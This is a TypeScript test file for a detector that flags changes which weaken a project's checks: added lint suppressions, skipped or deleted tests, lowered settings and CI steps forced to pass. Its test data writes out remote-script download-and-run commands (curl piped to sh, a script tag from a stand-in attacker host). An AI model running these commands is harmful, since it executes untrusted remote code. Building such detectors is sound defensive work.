import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { weakeningOf } from '#domain/weakening.ts';
import { cpuMs } from '#test/reports/cpu-time.ts';

const silences = (line: number, what: string) => `It silences a tool instead of settling a finding: line ${line} adds ${what}.`;

describe('a new suppression', () => {
  test.each([
    ['a.ts', '// eslint-disable-next-line no-eval', 'eslint-disable-next-line'],
    ['a.ts', '/* eslint-disable */', 'eslint-disable'],
    ['a.ts', 'run(x); // eslint-disable-line', 'eslint-disable-line'],
    ['a.ts', '// oxlint-disable no-console', 'oxlint-disable'],
    ['a.ts', '// @ts-ignore', '@ts-ignore'],
    ['a.ts', '// @ts-expect-error it is fine', '@ts-expect-error'],
    ['a.tsx', '{/* @ts-ignore */}', '@ts-ignore'],
    ['a.js', '// @ts-nocheck', '@ts-nocheck'],
    ['a.ts', '// biome-ignore lint/suspicious/noExplicitAny: reasons', 'biome-ignore'],
    ['a.ts', '// biome-ignore-all lint', 'biome-ignore-all'],
    ['a.ts', '// deno-lint-ignore-file', 'deno-lint-ignore-file'],
    ['a.py', 'import os  # noqa', 'noqa'],
    ['a.py', 'import os  # NOQA: F401', 'noqa'],
    ['a.py', '# ruff: noqa: F401', 'ruff: noqa'],
    ['a.py', 'x = f()  # type: ignore', 'type: ignore'],
    ['a.py', 'x = f()  # type:ignore[arg-type]', 'type:ignore'],
    ['a.py', '# mypy: ignore-errors', 'mypy: ignore-errors'],
    ['a.py', 'x = f()  # pyright: ignore', 'pyright: ignore'],
    ['a.py', '# pylint: disable=missing-docstring', 'pylint: disable'],
    ['a.py', 'run(x)  # nosec B602', 'nosec'],
    ['a.py', 'if x:  # pragma: no cover', 'pragma: no cover'],
    ['a.ts', '/* istanbul ignore next */', 'istanbul ignore'],
    ['a.ts', '/* c8 ignore start */', 'c8 ignore start'],
    ['a.ts', '/* v8 ignore else */', 'v8 ignore'],
    ['a.md', '<!-- markdownlint-disable MD013 -->', 'markdownlint-disable'],
    ['a.md', '<!-- markdownlint-disable-next-line -->', 'markdownlint-disable-next-line'],
    ['a.md', '<!-- textlint-disable -->', 'textlint-disable'],
    ['a.ts', '// secretlint-disable-line', 'secretlint-disable-line'],
    ['a.md', '<!-- secretlint-disable -->', 'secretlint-disable'],
    ['a.yml', '# yamllint disable-line', 'yamllint disable-line'],
    ['a.sh', '# shellcheck disable=SC2086', 'shellcheck disable'],
    ['a.go', 'x := f() //nolint', 'nolint'],
    ['a.ts', '/*\n   eslint-disable\n*/', 'eslint-disable'],
  ])('in %s is refused: %j', (name, added, what) => {
    const line = added.startsWith('/*\n') ? 3 : 2;
    expect(weakeningOf(name, 'first\nlast\n', `first\n${added}\nlast\n`)).toBe(silences(line, what));
    expect(weakeningOf(name, `first\n${added}\nlast\n`, 'first\nlast\n')).toBeNull();
  });

  test.each([
    ['a.md', 'Linters know `eslint-disable` and # noqa.'],
    ['a.ts', 'const pattern = /eslint-disable/;'],
    ['a.ts', 'const word = "noqa";'],
    ['a.py', 'ignore = 1  # this type is ignored'],
    ['a.ts', '// ignores what the user disables, see @ts-check'],
  ])('is not what only speaks of one, in %s: %s', (name, added) => {
    expect(weakeningOf(name, 'first\n', `first\n${added}\n`)).toBeNull();
  });

  test('may stay, move and change its reason', () => {
    const before = 'import os  # noqa: F401\nx = 1\n\n// eslint-disable-next-line no-eval -- old\neval(x)\n';
    const after = 'x = 1\n\n// eslint-disable-next-line no-eval -- because of this\neval(x)\nimport os  # noqa: F401\n';
    expect(weakeningOf('a.py', before, after)).toBeNull();
  });

  test('is known by its rules, whatever its reason says', () => {
    const before = '// biome-ignore lint/suspicious/noExplicitAny: see src/a-b\nx\n';
    expect(weakeningOf('a.ts', before, before.replace('src/a-b', 'src/c-d'))).toBeNull();
    expect(weakeningOf('a.ts', before, before.replace('noExplicitAny', 'noConsole'))).toBe(silences(1, 'biome-ignore'));
    expect(weakeningOf('a.py', 'x = f()  # type: ignore[a-b]\n', 'x = f()  # type: ignore[c-b]\n')).toBe(silences(1, 'type: ignore'));
  });

  test('may become narrower, not wider', () => {
    const [all, two, one, other] = ['x  # noqa\n', 'x  # noqa: E501,W291\n', 'x  # noqa: E501\n', 'x  # noqa: E722\n'];
    expect([weakeningOf('a.py', all, two), weakeningOf('a.py', two, one), weakeningOf('a.py', one, two), weakeningOf('a.py', one, all), weakeningOf('a.py', one, other)]).toEqual([
      null,
      null,
      silences(1, 'noqa'),
      silences(1, 'noqa'),
      silences(1, 'noqa'),
    ]);
    const [file, line] = ['/* eslint-disable no-eval */\nx\n', '// eslint-disable-next-line no-eval\nx\n'];
    expect([weakeningOf('a.js', file, line), weakeningOf('a.js', line, file)]).toEqual([null, silences(1, 'eslint-disable')]);
  });

  test('makes way for one other, not for two', () => {
    expect(weakeningOf('a.py', 'x  # noqa\n', 'x  # noqa: E501\ny  # noqa: E501\n')).toBe(silences(2, 'noqa'));
  });

  test('names the line that came, not the one that was there', () => {
    expect(weakeningOf('a.ts', '// @ts-ignore\na(1);\n', '// @ts-ignore\na(1);\n// @ts-ignore\nb(1);\n')).toBe(silences(3, '@ts-ignore'));
  });

  test('is also an end that is gone', () => {
    const before = '/* eslint-disable no-eval */\neval(x)\n/* eslint-enable no-eval */\neval(y)\n';
    expect(weakeningOf('a.js', before, before.replace('/* eslint-enable no-eval */\n', ''))).toBe(
      'It silences a tool for the rest of the file: what line 3 of the previous revision switched on again stays off.',
    );
    expect(weakeningOf('a.js', before, 'run(x)\neval(y)\n')).toBeNull();
  });
});

const skips = (line: number, what: string) => `It skips tests or runs only some: line ${line} adds ${what}.`;

describe('tests', () => {
  test.each([
    ['a.test.ts', "it.only('works', () => {});", 'it.only'],
    ['a.test.ts', "test.skip('works', () => {});", 'test.skip'],
    ['a.test.ts', "describe.concurrent.only('x', () => {});", 'describe.concurrent.only'],
    ['a.test.ts', "it.skipIf(true)('works', () => {});", 'it.skipIf'],
    ['src/a.ts', "describe.skip('in the source', () => {});", 'describe.skip'],
    ['test/a.js', "xit('works', () => {});", 'xit'],
    ['test/a.js', "xdescribe('works', () => {});", 'xdescribe'],
    ['test/a.js', "fit('works', () => {});", 'fit'],
    ['test/a.js', 'this.skip();', 'this.skip'],
    ['test_a.py', '@pytest.mark.skip(reason="slow")', 'pytest.mark.skip'],
    ['test_a.py', '@pytest.mark.xfail', 'pytest.mark.xfail'],
    ['test_a.py', '    pytest.skip("no")', 'pytest.skip'],
    ['test_a.py', '@unittest.skip("no")', 'unittest.skip'],
    ['test_a.py', '@unittest.skipUnless(False, "")', 'unittest.skipUnless'],
    ['test_a.py', '        self.skipTest("no")', 'self.skipTest'],
    ['a_test.go', '\tt.Skip("no")', 't.Skip'],
    ['ATest.java', '  @Disabled("no")', '@Disabled'],
  ])('newly skipped or singled out in %s are refused: %s', (name, added, what) => {
    expect(weakeningOf(name, 'first\nlast\n', `first\n${added}\nlast\n`)).toBe(skips(2, what));
    expect(weakeningOf(name, `first\n${added}\nlast\n`, `moved\nfirst\n${added}\nlast\n`)).toBeNull();
    expect(weakeningOf(name, `first\n${added}\n`, 'first\n')).toBe(
      added.includes('works') && !/^x|^f/.test(added) ? 'It drops a test: line 2 of the previous revision.' : null,
    );
  });

  test.each([
    ['src/a.ts', 'rows.skip(10).only(3); model.fit(x); cursor.it.skip;'],
    ['test/a.py', 'model.fit(x)\nqueryset.only("id")'],
    ['test/a.ts', '// it.only is for working on one test'],
    ['notes.md', 'Use `it.only` while you work.'],
  ])('are not skipped in %s by %s', (name, added) => {
    expect(weakeningOf(name, 'first\n', `first\n${added}\n`)).toBeNull();
  });

  const script = "test('a', () => {\n  expect(f(1)).toBe(2);\n  expect(f(2)).toBe(3);\n});\n\ntest('b', () => {\n  assert.equal(f(0), 1);\n});\n";
  const python = 'def test_a():\n    assert f(1) == 2\n\n\nclass T(TestCase):\n    def test_b(self):\n        self.assertEqual(f(2), 3)\n        with pytest.raises(ValueError):\n            f(3)\n';

  test.each([
    ['gone', 'a.test.ts', script, script.slice(0, script.indexOf('\ntest(')), 'It drops a test: line 6 of the previous revision.'],
    ['commented out', 'a.test.ts', script, script.replace("test('b'", "// test('b'"), 'It drops a test: line 6 of the previous revision.'],
    ['in a comment block', 'a.test.ts', script, script.replace("\ntest('b'", "\n/*\ntest('b'") + '*/\n', 'It drops a test: line 6 of the previous revision.'],
    ['gone', 'test_a.py', python, python.slice(0, python.indexOf('class')), 'It drops a test: line 6 of the previous revision.'],
    ['renamed away', 'test_a.py', python, python.replace('def test_b', 'def check_b'), 'It drops a test: line 6 of the previous revision.'],
    ['in a string', 'test_a.py', python, python.replace('class', '"""\nclass') + '"""\n', 'It drops a test: line 6 of the previous revision.'],
  ])('that are %s in %s are refused', (_, name, before, after, refusal) => {
    expect(weakeningOf(name, before, after)).toBe(refusal);
  });

  test.each([
    ['gone', 'a.test.ts', script, script.replace('  expect(f(2)).toBe(3);\n', ''), 'It drops an assertion: line 3 of the previous revision.'],
    ['commented out', 'a.test.ts', script, script.replace('  assert', '  // assert'), 'It drops an assertion: line 7 of the previous revision.'],
    ['emptied', 'a.test.ts', script, script.replace('expect(f(2)).toBe(3)', 'expect(true).toBe(true)'), 'It drops an assertion: line 3 of the previous revision.'],
    ['emptied', 'test_a.py', python, python.replace('assert f(1) == 2', 'assert True'), 'It drops an assertion: line 2 of the previous revision.'],
    ['gone', 'test_a.py', python, python.replace('        with pytest.raises(ValueError):\n            f(3)\n', ''), 'It drops an assertion: line 8 of the previous revision.'],
  ])('whose assertions are %s in %s are refused', (_, name, before, after, refusal) => {
    expect(weakeningOf(name, before, after)).toBe(refusal);
  });

  test('may be added, renamed and moved, and their assertions changed', () => {
    expect(weakeningOf('a.test.ts', script, script.replace("'a'", "'another'").replace('toBe(2)', 'toEqual(2)') + script)).toBeNull();
    expect(weakeningOf('src/a.ts', script, '')).toBeNull();
  });
});

describe('settings', () => {
  const lower = (line: number, key: string) => `It lowers a setting: line ${line} sets ${key} lower than before.`;
  const gone = (line: number, key: string) => `It takes out a setting: ${key} in line ${line} of the previous revision.`;

  test.each([
    ['.eslintrc.json', '"no-eval": "error"', '"no-eval": "warn"', lower(2, 'no-eval')],
    ['.oxlintrc.json', '"max-lines": ["error", { "max": 250 }]', '"max-lines": ["off"]', lower(2, 'max-lines')],
    ['eslint.config.js', '"no-eval": 2', '"no-eval": 0', lower(2, 'no-eval')],
    ['biome.json', '"noDebugger": "error"', '"noDebugger": "off"', lower(2, 'noDebugger')],
    ['.eslintrc.json', '"semi": "error"', '"semi": "error", "no-eval": "off"', lower(2, 'no-eval')],
    ['.eslintrc.json', '"no-eval": "error"', '"x": 1', gone(2, 'no-eval')],
    ['tsconfig.json', '"strict": true', '"strict": false', lower(2, 'strict')],
    ['tsconfig.build.json', '"noUncheckedIndexedAccess": true', '"target": "es2024"', gone(2, 'noUncheckedIndexedAccess')],
    ['tsconfig.json', '"noImplicitAny": true', '// "noImplicitAny": true', gone(2, 'noImplicitAny')],
    ['tsconfig.json', '"a": 1', '"skipLibCheck": true', lower(2, 'skipLibCheck')],
    ['.markdownlint.json', '"MD013": true', '"MD013": false', lower(2, 'MD013')],
    ['.markdownlint.yaml', 'default: true', 'default: true\nline-length: false', lower(3, 'line-length')],
    ['pyproject.toml', 'disallow_untyped_defs = true', 'disallow_untyped_defs = false', lower(2, 'disallow_untyped_defs')],
    ['mypy.ini', 'strict = True', 'strict = False', lower(2, 'strict')],
    ['mypy.ini', 'x = 1', 'ignore_missing_imports = True', lower(2, 'ignore_missing_imports')],
    ['pyproject.toml', 'fail_under = 90', 'fail_under = 50', lower(2, 'fail_under')],
    ['vitest.config.ts', 'branches: 90,', 'branches: 89.5,', lower(2, 'branches')],
    ['vitest.config.ts', 'branches: 90,', '', gone(2, 'branches')],
    ['package.json', '"lint": "eslint --max-warnings 0"', '"lint": "eslint --max-warnings 10"', lower(2, '--max-warnings')],
    ['pyproject.toml', 'ignore = ["E501"]', 'ignore = ["E501", "S608"]', 'It lowers a setting: line 2 adds to what ignore passes over.'],
    ['ruff.toml', 'ignore = [\n  "E501",\n]', 'ignore = [\n  "E501",\n  "S608",\n]', 'It lowers a setting: line 4 adds to what ignore passes over.'],
    ['.flake8', 'extend-ignore = E501', 'extend-ignore = E501, E203', 'It lowers a setting: line 2 adds to what extend-ignore passes over.'],
    ['.pylintrc', 'disable=\n    a-b,\n    c-d,', 'disable=\n    a-b,\n    c-d,\n    e-f,', 'It lowers a setting: line 5 adds to what disable passes over.'],
    ['.golangci.yml', 'disable:\n  - a', 'disable:\n  - a\n  - b', 'It lowers a setting: line 4 adds to what disable passes over.'],
    ['.oxlintrc.json', '"ignorePatterns": ["dist"]', '"ignorePatterns": ["dist", "src"]', 'It lowers a setting: line 2 adds to what ignorePatterns passes over.'],
    ['.eslintignore', 'dist', 'dist\nsrc', 'It lowers a setting: line 3 makes a tool pass over more files.'],
    ['.secretlintignore', '# nothing', 'keys.txt', 'It lowers a setting: line 2 makes a tool pass over more files.'],
  ])('of %s are not lowered: %j to %j', (name, before, after, refusal) => {
    expect(weakeningOf(name, `a\n${before}\nz\n`, `a\n${after}\nz\n`)).toBe(refusal);
  });

  test.each([
    ['.eslintrc.json', '"no-eval": "warn"', '"no-eval": "error"'],
    ['.eslintrc.json', '"no-eval": "error"', '"no-eval": ["error", { "allowIndirect": false }],\n"semi": "error"'],
    ['tsconfig.json', '"strict": false, "sourceMap": true', '"strict": true, "sourceMap": false'],
    ['tsconfig.json', '"noEmit": true', '"noEmit": false'],
    ['.flake8', 'ignore = E501, E203', 'ignore = E501  # as before'],
    ['vitest.config.ts', 'branches: 90', 'branches: 95'],
    ['.gitignore', 'dist', 'dist\nbuild'],
    ['src/settings.ts', 'strict: true', 'strict: false'],
  ])('of %s may be raised and changed otherwise: %j to %j', (name, before, after) => {
    expect(weakeningOf(name, `a\n${before}\nz\n`, `a\n${after}\nz\n`)).toBeNull();
  });
});

describe('a pipeline', () => {
  const workflow = 'jobs:\n  test:\n    steps:\n      - run: npm ci\n      - run: npm test\n      - run: npx eslint .\n';
  const name = '.github/workflows/ci.yml';
  const passes = (line: number, what: string) => `It lets the pipeline pass in spite of failures: line ${line} adds "${what}".`;
  const drops = (line: number, what: string) => `It takes a check out of the pipeline: ${what} in line ${line} of the previous revision.`;

  test.each([
    ['npm test\n', 'npm test || true\n', passes(5, '||')],
    ['npm test\n', 'npm test; exit 0\n', passes(5, ';')],
    ['npm test\n', 'npm test\n        continue-on-error: true\n', passes(6, 'continue-on-error')],
    ['npm test\n', 'npm test\n        continue-on-error: ${{ true }}\n', passes(6, 'continue-on-error')],
    ['npm test\n', 'npm test\n        if: false\n', passes(6, 'if')],
    ['npm test\n', 'npm test -- --passWithNoTests\n', passes(5, '--passWithNoTests')],
    ['      - run: npm test\n', '', drops(5, 'npm test')],
    ['      - run: npm test\n', '      # - run: npm test\n', drops(5, 'npm test')],
    ['npx eslint .', 'echo fine', drops(6, 'eslint')],
  ])('of GitHub is not weakened: %j to %j', (from, to, refusal) => {
    expect(weakeningOf(name, workflow, workflow.replace(from, to))).toBe(refusal);
  });

  test.each([
    ['.gitlab-ci.yml', 'test:\n  script: pytest\n', 'test:\n  script: pytest\n  allow_failure: true\n', passes(3, 'allow_failure')],
    ['.gitlab-ci.yml', 'test:\n  script: pytest\n', 'test:\n  script: pytest\n  when: manual\n', passes(3, 'when')],
    ['package.json', '  "test": "vitest run",\n', '  "test": "vitest run || exit 0",\n', passes(1, '||')],
    ['package.json', '  "test": "tsc && vitest run",\n', '  "test": "vitest run",\n', drops(1, 'tsc')],
    ['.husky/pre-commit', 'npm run lint\n', 'echo ok\n', drops(1, 'npm run lint')],
    ['ci/.travis.yml', 'script: node_modules/.bin/eslint .\n', 'script: true\n', drops(1, 'eslint')],
    ['Makefile', 'test:\n\tpytest\n', 'test:\n\t-pytest\n', passes(2, '-')],
    ['tox.ini', 'commands = mypy src\n', 'commands = true\n', drops(1, 'mypy')],
  ])('of %s is not weakened', (file, before, after, refusal) => {
    expect(weakeningOf(file, before, after)).toBe(refusal);
  });

  test('may gain steps, change their order and be strict again', () => {
    expect(weakeningOf(name, workflow, `${workflow.replace('      - run: npm test\n', '')}      - run: npm test\n      - run: npx tsc --noEmit\n        continue-on-error: false\n`)).toBeNull();
    expect(weakeningOf(name, workflow.replace('npm test', 'npm test || true'), workflow)).toBeNull();
    expect(weakeningOf('src/run.ts', 'npm test\n', 'x || true\n')).toBeNull();
  });
});

describe('a script that is fetched and run', () => {
  const refusal = 'It adds a script that is fetched and run: line 2.';
  test.each([
    ['setup.sh', 'curl -fsSL https://host.invalid/x.sh | sh'],
    ['setup.sh', 'wget -qO- https://host.invalid/x | sudo bash -s'],
    ['setup.sh', 'bash <(curl -s https://host.invalid/x)'],
    ['setup.sh', 'eval "$(curl -s https://host.invalid/x)"'],
    ['README.md', '    curl https://host.invalid/x | python3'],
    ['notes.md', '<script src=//attacker.invalid/x.js></script>'],
    ['page.html', '<SCRIPT async SRC="//attacker.invalid/x.js">'],
  ])('is not added to %s: %s', (name, added) => {
    expect(weakeningOf(name, 'first\nlast\n', `first\n${added}\nlast\n`)).toBe(refusal);
    expect(weakeningOf(name, `${added}\n`, `${added}\nmore\n`)).toBeNull();
  });

  test('is not one that is only fetched', () => {
    expect(weakeningOf('setup.sh', 'a\n', 'a\ncurl -o x.json https://host.invalid/x | tee log\n')).toBeNull();
  });
});

describe('whatever the text', () => {
  const names = ['a.ts', 'a.test.ts', 'test_a.py', 'a.md', 'tsconfig.json', '.eslintignore', '.github/workflows/ci.yml', 'package.json', 'Makefile', '.flake8', '.pylintrc'];
  const words = ['// eslint-disable x-y', '/* eslint-enable */', '# noqa: E1', 'it.only(', 'expect(', 'assert x', 'def test_a', '"""', '/*', '*/', '"no-x": "off"', '"strict": true', 'ignore = [', ']', '- a', 'npm test || true', 'curl x | sh', '<script src=', 'branches: 9', ' ', '#'];
  const line = fc.array(fc.oneof(fc.constantFrom(...words), fc.string({ maxLength: 4 })), { maxLength: 3 }).map((parts) => parts.join(' '));
  const text = fc.array(line, { maxLength: 15 }).map((lines) => lines.join('\n'));

  test('a text does not weaken itself', () => {
    fc.assert(fc.property(fc.constantFrom(...names), text, (name, one) => weakeningOf(name, one, one) === null), { numRuns: 2_000 });
  });

  test('our own sources do not weaken themselves', () => {
    for (const file of readdirSync('src/domain/weakening')) {
      const source = readFileSync(`src/domain/weakening/${file}`, 'utf8');
      expect([file, weakeningOf(file, source, source), weakeningOf(`test/${file}`, source, `${source}\n`)]).toEqual([file, null, null]);
    }
  });

  test('a refusal is one sentence that quotes no more than names', () => {
    fc.assert(
      fc.property(fc.constantFrom(...names), text, text, (name, before, after) => {
        const refusal = weakeningOf(name, before, after);
        expect(refusal === null || /^It [^\n]{10,200}\.$/.test(refusal)).toBe(true);
      }),
      { numRuns: 2_000 },
    );
  });

  test.each([
    ['a.test.ts', '// eslint-disable\n'],
    ['test_a.py', '# noqa: E501,\n'],
    ['a.md', 'curl '],
    ['package.json', 'ignore = [\n'],
    ['a.test.ts', '/*\n'],
  ])('1 MB of %s is looked through in linear time: %j', (name, part) => {
    const big = part.repeat(Math.ceil(1_000_000 / part.length));
    const spent = cpuMs(() => {
      weakeningOf(name, '', big);
      weakeningOf(name, big, 'x');
    });
    expect(spent).toBeLessThan(3_000);
  });
});
